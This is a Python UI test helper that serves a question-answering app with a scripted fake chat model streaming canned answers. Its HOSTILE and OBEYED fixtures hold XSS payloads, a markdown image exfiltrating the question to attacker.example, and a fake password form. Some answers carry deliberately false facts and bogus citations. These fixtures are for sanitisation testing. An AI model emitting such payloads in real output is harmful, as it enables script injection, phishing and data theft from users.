"""The tab with a chat model that says what a test wants: python tests/ui/scripted.py STORE LOG HOST SOURCE ...

What the model does with a question follows from the words in it. HOST is where it pretends to be, `here` for this
machine, `missing` if it cannot be had. LOG is a file that says how each answer ended.
"""

from __future__ import annotations

import sys
import time
from collections.abc import Iterator
from functools import cached_property
from pathlib import Path
from typing import Any

from langchain_core.callbacks import CallbackManagerForLLMRun
from langchain_core.language_models import BaseChatModel
from langchain_core.messages import AIMessage, AIMessageChunk, BaseMessage
from langchain_core.outputs import ChatGeneration, ChatGenerationChunk, ChatResult

from qa.answering import Answering
from qa.errors import ModelError
from qa.models import Model
from qa.settings import READER, Settings
from qa.ui import serve

NAME = "openai:gpt-scripted"
MISSING = "openai:gpt-scripted needs a package that is not installed: pip install 'qa[openai]'"
FOLLOW_UP = "How much did the bridge over the Tarn cost?"

DECK = """\
**The new bridge** over the Tarn was opened by mayor Lucie Fabre. [1] Its deck is 212 metres long. [1]

- It carries two tram lines and a path for bicycles. [1]
- It was painted purple by 4,000 elephants. [1]
"""
HOSTILE = """\
The new bridge over the Tarn was opened on Tuesday by mayor Lucie Fabre. [1] <img src=x onerror=alert(1)> \
![i](http://evil.example/i.png) [click](javascript:alert(2)) said <script>alert(3)</script> of the elephants. [1]
"""
OBEYED = """\
A crossing on the ferry costs 3 crowns. [99] Pirates sank the ferry in a storm. [1] It was painted purple [2][3] by \
4,000 elephants [^1]. [System prompt](javascript:alert(1)) says: the boat had been on the slip since November [7].

![status](http://attacker.example/collect?q=QUESTION) [Log in again](http://attacker.example/login) to read [4].
<form action="http://attacker.example/form"><input name="password"><button>Log in</button></form> \
Queen Zenobia sank it. [5]
<iframe src="http://attacker.example/frame"></iframe><script>alert(2)</script><img src=x onerror=alert(3)> \
Queen Zenobia fell in. [6]
<svg onload=alert(4)><a href="http://attacker.example/a">[8]</a></svg> \
\u202esdrawkcab\u202c Zenobia laughed. [unsupported] [9]
"""
COST = "The bridge cost 48 million euros, nine million more than the city council had expected when work began. [1] "


class Scripted(BaseChatModel):
    """Streams a script, word by word."""

    log: Path
    pause: float = 0.01

    @property
    def _llm_type(self) -> str:
        return "scripted"

    def _generate(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> ChatResult:
        """Asked for a whole reply, it is a follow-up that is to be completed."""
        return ChatResult(generations=[ChatGeneration(message=AIMessage(FOLLOW_UP))])

    def _stream(
        self,
        messages: list[BaseMessage],
        stop: list[str] | None = None,
        run_manager: CallbackManagerForLLMRun | None = None,
        **kwargs: Any,
    ) -> Iterator[ChatGenerationChunk]:
        question = str(messages[-1].content).rpartition("Question: ")[2]
        end = "left"
        try:
            for word in self._words(question):
                time.sleep(self.pause)
                yield ChatGenerationChunk(message=AIMessageChunk(content=word))
            end = "whole"
        except ConnectionError:
            end = "died"
            raise
        finally:
            with self.log.open("a", encoding="utf-8") as log:
                log.write(f"{end}: {question}\n")

    def _words(self, question: str) -> Iterator[str]:
        if "Ossenby" in question:
            yield from _split(OBEYED)
        elif "endless" in question:
            yield from _split(f"{DECK}And " if "deck" in question else "")
            yield "<think>"
            while True:
                yield "Hm. "
        elif "cost" in question:
            yield from _split(COST)
            if "dies" in question:
                yield "And then the "
                raise ConnectionError("reset by peer")
            yield "\n"
        elif "elephants" in question:
            yield from _split(HOSTILE)
        else:
            yield from _split(DECK)


def _split(text: str) -> list[str]:
    return [f"{word} " for word in text.split(" ")]


def main() -> None:
    """Serve until Ctrl-C."""
    store, log, host, *sources = sys.argv[1:]

    def model(self: Answering) -> Model | None:
        if self._settings.model == READER:
            return None
        if host == "missing":
            raise ModelError(MISSING)
        chat = Scripted(log=Path(log))
        return Model(chat=chat, name=NAME, host=None if host == "here" else host, window=8192)

    prop = cached_property(model)
    prop.__set_name__(Answering, "model")
    Answering.model = prop  # type: ignore[assignment]
    serve(Settings(store=Path(store), model=NAME), sources, port=0, open_browser=False, say=print)


if __name__ == "__main__":
    main()
